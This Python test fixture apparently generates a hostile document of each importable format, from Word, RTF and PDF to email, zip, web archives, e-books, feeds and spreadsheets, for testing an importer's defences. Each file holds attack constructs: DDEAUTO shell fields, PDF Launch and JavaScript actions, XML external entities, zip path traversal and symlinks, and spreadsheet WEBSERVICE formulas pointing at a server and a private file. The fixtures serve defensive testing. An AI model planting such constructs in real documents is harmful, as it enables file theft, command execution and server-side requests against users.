"""A stranger's documents, one of every format that is read, each of which names whatever it can name: a server and a private file."""

from __future__ import annotations

import io
import json
import stat
import zipfile
from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path

from tests.hostile.test_importers_bad_input import ARTICLE, everything_that_points_outside
from tests.importers.office_files import REL, docx_of, odt_of, paragraph, run, zipped
from tests.importers.pdf_making import Put, pdf
from tests.importers.picture_making import EXIF, gif, jpeg, png, tiff, webp
from tests.importers.test_books import book, chapter
from tests.importers.test_lists import book as sheet_of
from tests.importers.test_lists import opened, table
from tests.importers.test_mailboxes import boxed, saved
from tests.importers.test_web_archives import answer, packed, record

VOTE = "The council voted on Tuesday to keep the ferry."
"""What stands in every one of them."""
Maker = Callable[[str, Path], bytes]


def page(address: str, secret: Path) -> bytes:
    return everything_that_points_outside(address, secret).encode()


def docx(address: str, secret: Path) -> bytes:
    """With a template, a picture and a document to be put in from elsewhere, and fields that name them."""
    body = paragraph(VOTE) + "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{run(field, tag="instrText")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for field in (f'INCLUDEPICTURE "http://{address}/a.png" \\d', f'INCLUDETEXT "{secret}"', f'DDEAUTO "sh" "{secret}"')
    )
    body += '<w:p><w:r><w:drawing><a:blip r:link="picture"/></w:drawing></w:r></w:p><w:altChunk r:id="chunk"/>'
    outside = "".join(
        f'<Relationship Id="{name}" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
        for name, kind, target in (("template", "attachedTemplate", f"http://{address}/t.dotm"), ("picture", "image", f"http://{address}/a"),
                                   ("chunk", "aFChunk", secret.as_uri()), ("notes", "footnotes", secret.as_uri()))
    )  # fmt: skip
    return _put(docx_of(body), "word/_rels/document.xml.rels", "</Relationships>", f"{outside}</Relationships>")


def odt(address: str, secret: Path) -> bytes:
    linked = "".join(
        f'<text:p><draw:frame><draw:{kind} xlink:href="{target}"/></draw:frame></text:p>'
        for kind in ("image", "object", "plugin")
        for target in (f"http://{address}/a", secret.as_uri(), "../../../private/note.txt")
    )
    return odt_of(f'<text:p>{VOTE}</text:p>{linked}<text:section><text:section-source xlink:href="{secret.as_uri()}"/></text:section>')


def rtf(address: str, secret: Path) -> bytes:
    fields = "".join(
        rf"{{\field{{\*\fldinst {field}}}{{\fldrslt }}}}"
        for field in (f'INCLUDEPICTURE "http://{address}/a.png"', f'INCLUDETEXT "{secret}"')
    )
    return rf"{{\rtf1\ansi{{\*\template http://{address}/t.dot}}{{\filetbl{{\file\fid0 {secret};}}}}{fields}{VOTE}\par}}".encode()


def report(address: str, secret: Path) -> bytes:
    """A PDF that asks to be opened with a script, programs and addresses, whose picture's bytes are another file's."""
    acts = (
        f"/S /URI /URI (http://{address}/)", f"/S /Launch /F ({secret})", f"/S /GoToR /F ({secret}) /D [0 /Fit]",
        f"/S /SubmitForm /F << /FS /URL /F (http://{address}/form) >>", f"/S /ImportData /F ({secret})",
        f"/S /JavaScript /JS (app.launchURL\\('http://{address}/'\\);)",
    )  # fmt: skip
    links = " ".join(f"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << {act} >> >>" for act in acts)
    picture = f"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0 /F ({secret}) >>"
    catalog = "/OpenAction << " + acts[0] + " >> /AA << " + " ".join(f"/{on} << {acts[5]} >>" for on in ("WC", "DS", "WP")) + " >>"
    metadata = f"<< /Type /Metadata /Subtype /XML /Length 0 /F << /FS /URL /F (http://{address}/x) >> >>\nstream\n\nendstream"
    return pdf(
        [[Put(72, 700, VOTE)], [Put(72, 700, "Nobody in the town had expected the vote to be so close.")]],
        catalog=catalog + " /Metadata 6 0 R", page=f"/Annots [{links}] /AA << /O << {acts[1]} >> >>",
        more=[f"{picture}\nstream\n\nendstream", metadata],
    )  # fmt: skip


def mail(address: str, secret: Path) -> bytes:
    """With a page that calls, a part that is to be fetched, and a page and a Word file attached."""
    one = EmailMessage()
    one["From"], one["Subject"], one["Date"] = "Ada Lark <ada@paper.example>", "Ferry", "Tue, 4 Oct 2016 10:00:00 +0000"
    one["Disposition-Notification-To"] = one["Return-Receipt-To"] = f"<ada@{address}>"
    one.set_content(VOTE)
    one.add_alternative(page(address, secret).decode(), subtype="html")
    one.add_attachment(docx(address, secret), maintype="application", subtype="octet-stream", filename="../../../letter.docx")
    fetched = EmailMessage()
    fetched["Content-Type"] = f'message/external-body; access-type=local-file; name="{secret}"; url="http://{address}/"'
    fetched.set_payload("Content-Type: text/plain\n\n")
    one.attach(fetched)
    return one.as_bytes()


def box(address: str, secret: Path) -> bytes:
    return boxed(mail(address, secret))


def page_in_one_file(address: str, secret: Path) -> bytes:
    return saved(
        f"From: <Saved by Blink>\nSnapshot-Content-Location: http://{address}/\nMIME-Version: 1.0\n"
        'Content-Type: multipart/related; boundary="b--x"\n',
        (f"Content-Type: text/html; charset=utf-8\nContent-Location: http://{address}/", page(address, secret)),
        (f"Content-Type: text/html\nContent-Location: {secret.as_uri()}", page(address, secret)),
    )


def archive(address: str, secret: Path) -> bytes:
    """With names that lead out of it, links, and an archive inside that has them too."""

    def filled(inner: dict[str, bytes]) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as packed_files:
            for name, data in ({"../../up.html": page(address, secret), "/tmp/down.docx": docx(address, secret)} | inner).items():
                packed_files.writestr(name, data)
            for name, target in (("link.txt", str(secret)), ("folder", str(secret.parent))):
                link = zipfile.ZipInfo(name)
                link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
                packed_files.writestr(link, target)
        return out.getvalue()

    return filled({"..\\inner.zip": filled({"C:\\autoexec.txt": VOTE.encode()}), "folder/note.txt": VOTE.encode()})


def crawl(address: str, secret: Path) -> bytes:
    moved = answer(b"", more=f"Location: {secret.as_uri()}\r\nRefresh: 0; url=http://{address}/\r\n", status="302 Found")
    linked = answer(page(address, secret), more=f"Link: <http://{address}/a.css>; rel=preload\r\n")
    names = (f"http://{address}/", secret.as_uri(), "http://post.example/../../../up")
    return b"".join(packed(record(linked, address=name)) for name in names) + packed(record(moved)) + packed(record(b"x", "revisit"))


def crawl_in_a_package(address: str, secret: Path) -> bytes:
    return zipped({"archive/data.warc.gz": crawl(address, secret), "datapackage.json": json.dumps({"resources": [{"path": str(secret)}]})})


def book_of(address: str, secret: Path) -> bytes:
    picture = f'<img src="http://{address}/a.png"/><img src="{secret.as_uri()}"/><object data="{secret.as_uri()}"/>'
    package = f"""<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf"><manifest>
    <item id="a" href="text/a.xhtml" media-type="application/xhtml+xml"/><item id="b" href="{secret.as_uri()}" media-type="text/html"/>
    <item id="c" href="http://{address}/c" media-type="application/xhtml+xml"/><item id="d" href="../../../private/note.txt"
    media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/><itemref idref="b"/><itemref idref="c"/><itemref idref="d"/>
    </spine></package>"""
    return book(**{"OPS__book.opf": package, "OPS__text__a.xhtml": chapter(VOTE + picture)})


def feed(address: str, secret: Path) -> bytes:
    return f"""<?xml version="1.0"?><?xml-stylesheet href="http://{address}/a.xsl"?><rss version="2.0"><channel><title>Post</title>
    <atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="hub" href="http://{address}/"/><item><title>Ferry</title>
    <link>{secret.as_uri()}</link><enclosure url="http://{address}/a.mp3" type="audio/mpeg"/><source url="{secret.as_uri()}"/>
    <description><![CDATA[{ARTICLE}<img src="http://{address}/a.png"/><iframe src="{secret.as_uri()}"></iframe>]]></description>
    </item></channel></rss>""".encode()


def atom(address: str, secret: Path) -> bytes:
    return f"""<feed xmlns="http://www.w3.org/2005/Atom" xml:base="http://{address}/"><title>Post</title><entry><title>Ferry</title>
    <link href="{secret.as_uri()}"/><content src="http://{address}/whole"/><summary>{VOTE}</summary></entry></feed>""".encode()


def json_feed(address: str, secret: Path) -> bytes:
    entry = {"id": "1", "title": "Ferry", "url": secret.as_uri(), "image": f"http://{address}/a.png", "content_html": ARTICLE}
    return json.dumps(
        {"version": "https://jsonfeed.org/version/1.1", "title": "Post", "next_url": f"http://{address}/2", "items": [entry]}
    ).encode()


def notes(address: str, secret: Path) -> bytes:
    return f"# A story\n\n![picture]({secret}) ![more](http://{address}/a.png)\n\n{ARTICLE}\n\n[1]: {secret.as_uri()}\n".encode()


def plain(address: str, secret: Path) -> bytes:
    return f"A story\n\n{VOTE} See http://{address}/ and {secret.as_uri()}.".encode()


def subtitles(address: str, secret: Path) -> bytes:
    return f'1\n00:00:01,000 --> 00:00:03,000\n<font face="http://{address}/a.ttf">{VOTE}</font>\n<img src="{secret}">\n'.encode()


def subtitles_of_the_web(address: str, secret: Path) -> bytes:
    return f"WEBVTT\n\nSTYLE\n::cue {{ background: url(http://{address}/a.png) }}\n\n00:01.000 --> 00:03.000\n{VOTE} {secret}\n".encode()


def _rows(address: str, secret: Path) -> list[tuple[str, str, str]]:
    """A list of one article, whose cells name what they can."""
    return [
        ("Headline", "Body", "URL"),
        ("Ferry stays", f'{VOTE} =WEBSERVICE("http://{address}/a") {secret}', f"http://{address}/1"),
    ]


def listed(address: str, secret: Path) -> bytes:
    return table(*_rows(address, secret))


def listed_in_json(address: str, secret: Path) -> bytes:
    head, *rows = _rows(address, secret)
    return json.dumps([dict(zip(head, row, strict=True)) for row in rows]).encode()


def spreadsheet(address: str, secret: Path) -> bytes:
    return sheet_of(*_rows(address, secret))


def row(address: str, secret: Path) -> bytes:
    """What is kept of an article in a list."""
    (member,) = opened(listed(address, secret)).members
    return member.data


def picture(make: Callable[[int, int, bytes], bytes]) -> Maker:
    """A picture with a camera and a place in it; it has no words."""
    return lambda address, secret: make(64, 64, EXIF)


def with_entities(name: str, part: str, make: Maker) -> Maker:
    """The same packed file with a document type in a part, whose entities are a private file and a server's."""

    def made(address: str, secret: Path) -> bytes:
        declared = (
            f'<!DOCTYPE x SYSTEM "http://{address}/x.dtd" [<!ENTITY a SYSTEM "{secret.as_uri()}">'
            f'<!ENTITY % b SYSTEM "http://{address}/b">%b;]>'
        )
        return _put(make(address, secret), part, name, f"{declared}{name}")

    return made


FILES: dict[str, Maker] = {
    "page.html": page, "letter.docx": docx, "letter.odt": odt, "letter.rtf": rtf, "report.pdf": report, "mail.eml": mail, "mails.mbox": box,
    "saved.mhtml": page_in_one_file, "files.zip": archive, "crawl.warc.gz": crawl, "crawl.wacz": crawl_in_a_package, "book.epub": book_of,
    "feed.xml": feed, "atom.xml": atom, "feed.json": json_feed, "notes.md": notes, "own.txt": plain, "talk.srt": subtitles,
    "talk.vtt": subtitles_of_the_web, "list.csv": listed, "list.json": listed_in_json, "list.xlsx": spreadsheet, "row.json": row,
}  # fmt: skip
PICTURES: dict[str, Maker] = {
    "seen.png": picture(png), "seen.jpg": picture(jpeg), "seen.webp": picture(webp), "seen.tif": picture(tiff),
    "seen.gif": lambda address, secret: gif(64, 64),
}  # fmt: skip
"""Those that have no words."""
REFUSED: dict[str, Maker] = {
    "entities.docx": with_entities("<w:document", "word/document.xml", docx),
    "entities.odt": with_entities("<office:document-content", "content.xml", odt),
}
"""Those that are not read at all."""


def write(folder: Path, address: str, secret: Path) -> None:
    """All of them in a folder, and links that lead out of it."""
    folder.mkdir()
    for name, make in (FILES | PICTURES | REFUSED).items():
        (folder / name).write_bytes(make(address, secret))
    (folder / "release.txt").symlink_to(secret)
    (folder / "more").symlink_to(secret.parent)


def _put(package: bytes, part: str, old: str, new: str) -> bytes:
    """A packed file in one part of which a text is another."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as before, zipfile.ZipFile(out, "w") as after:
        for item in before.infolist():
            data = before.read(item)
            if item.filename == part:
                assert old.encode() in data, part
                data = data.replace(old.encode(), new.encode(), 1)
            after.writestr(item, data)
    return out.getvalue()
